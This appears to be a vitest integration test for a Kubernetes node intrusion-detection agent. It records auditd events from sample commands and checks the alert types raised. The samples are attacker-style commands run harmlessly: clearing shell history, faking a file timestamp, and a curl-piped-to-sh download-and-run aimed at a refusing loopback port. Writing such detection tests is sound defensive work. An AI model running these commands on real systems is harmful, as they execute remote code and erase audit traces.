import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../src/alerts/alert.js';
import { Engine } from '../src/engine/engine.js';
import { loadRulePack } from '../src/engine/load-rules.js';
import { defaultRulePackDir } from '../src/engine/rule-pack-dir.js';
import { AuditCollector } from '../src/sources/auditd/audit-collector.js';
import type { HostEvent } from '../src/sources/event.js';
import { ensureAuditd } from './agent/support/auditd.js';

/**
 * This test's own audit rule, deleted by the same spec afterwards. Its key
 * does not start with vigil, so the agent's rule removal leaves it alone.
 */
const KEY = 'node_rules_test';
const RULE = [
  'always,exit',
  '-F',
  'arch=b64',
  '-S',
  'execve',
  '-F',
  `key=${KEY}`,
];
const LOG = '/var/log/audit/audit.log';
const MARKER = 'VIGIL-TEST-ALERT-1f0c6a2e-5b8d-4c3a-9e71-d2f04b6a8c15';

let dir: string;
let offset: number;
let events: HostEvent[] = [];

/** Run the commands, then read their execve events from the real log. */
beforeAll(async () => {
  ensureAuditd();
  dir = mkdtempSync(join(tmpdir(), 'vigil-node-rules-'));
  offset = statSync(LOG).size;
  execFileSync('auditctl', ['-a', ...RULE]);
  try {
    const run = (argv: string[]) =>
      spawnSync(argv[0] as string, argv.slice(1), { timeout: 10_000 });
    run(['/bin/echo', MARKER, dir]);
    run(['bash', '-c', `history -c; ln -sf /dev/null ${dir}/.bash_history`]);
    run(['touch', '-r', '/bin/ls', `${dir}/.hidden`]);
    // Port 9 on loopback refuses at once, so nothing is downloaded.
    run(['sh', '-c', `curl -fsS http://127.0.0.1:9${dir}/x.sh | sh`]);
    run(['/bin/echo', 'ready', dir]);
    run(['touch', `${dir}/plain`]);
  } finally {
    execFileSync('auditctl', ['-d', ...RULE]);
  }
  events = await waitForEvents(6);
}, 30_000);

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

/** Parse the log from `offset` until `count` of this test's events arrive. */
async function waitForEvents(count: number): Promise<HostEvent[]> {
  const deadline = Date.now() + 15_000;
  for (;;) {
    const found: HostEvent[] = [];
    const collector = new AuditCollector(
      { cluster: 'test', node: 'node-1' },
      (event) => {
        if (mentionsDir(event)) found.push(event);
      },
    );
    const text = readFileSync(LOG).subarray(offset).toString('utf8');
    for (const [i, line] of text.split('\n').entries()) {
      if (line.includes(`key="${KEY}"`) || !line.includes('type=SYSCALL')) {
        collector.pushLine(line, i + 1);
      }
    }
    collector.flush();
    if (found.length >= count || Date.now() > deadline) return found;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

function mentionsDir(event: HostEvent): boolean {
  return event.kind === 'process' && event.process.argv.join(' ').includes(dir);
}

describe('node rules on real audit events', () => {
  it('sees each command once', () => {
    const commands = events.map((e) =>
      e.kind === 'process' ? e.process.argv[0] : e.kind,
    );
    expect(commands.sort()).toEqual(
      [
        '/bin/echo',
        '/bin/echo',
        'bash',
        'curl',
        'ln',
        'sh',
        'touch',
        'touch',
      ].sort(),
    );
  });

  it('raises the expected alert types', () => {
    const alerts: Alert[] = [];
    const engine = new Engine(loadRulePack(defaultRulePackDir()), {
      onClose: (alert) => alerts.push(alert),
    });
    for (const event of events) engine.process(event);
    engine.flush();
    expect([...new Set(alerts.map((a) => a.alertType))].sort()).toEqual([
      'K8S.NODE_DownloadAndRunCombo',
      'K8S.NODE_EICAR',
      'K8S.NODE_HistoryFileCleared',
      'K8S.NODE_TimestampTampering',
    ]);
  });
});
